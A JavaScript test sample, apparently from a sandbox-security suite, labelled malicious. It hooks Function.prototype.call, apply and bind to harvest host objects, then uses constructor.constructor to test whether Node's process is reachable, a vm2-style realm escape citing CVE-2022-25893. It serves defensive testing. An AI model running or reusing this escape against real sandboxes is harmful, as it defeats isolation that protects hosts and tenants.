/*---
id: re-builtin-lookup-01-function-call-apply
description: "Replaces Function.prototype.call, apply and bind with recorders (CVE-2022-25893), so any runtime code that calls through them hands its receivers and arguments to the guest."
kind: malicious
category: realm-escape
technique: RE-builtin-lookup
variant: plain
references:
  - "CVE-2022-25893"
  - "vm2 ATTACKS cat. 10-11"
  - "CVE-2026-47698"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained }
  high-security: { outcome: contained }
  tenant-isolated: { outcome: contained }
---*/
const seen = new Set();
const fp = Function.prototype;
const originals = { call: fp.call, apply: fp.apply, bind: fp.bind };
for (const name of ['call', 'apply', 'bind']) {
  const orig = originals[name];
  fp[name] = function (...args) { seen.add(this); for (const a of args) seen.add(a); return Reflect.apply(orig, this, args); };
}
console.log('a', { b: 1 });
if (typeof require === 'function') { try { require('lodash').map([1], String); } catch (e) {} }
for (const v of seen) {
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  try { if (Reflect.apply(originals.call, v.constructor.constructor('return typeof process'), [null]) !== 'undefined') console.log('ESCAPED'); } catch (e) {}
}
return 'recorded';
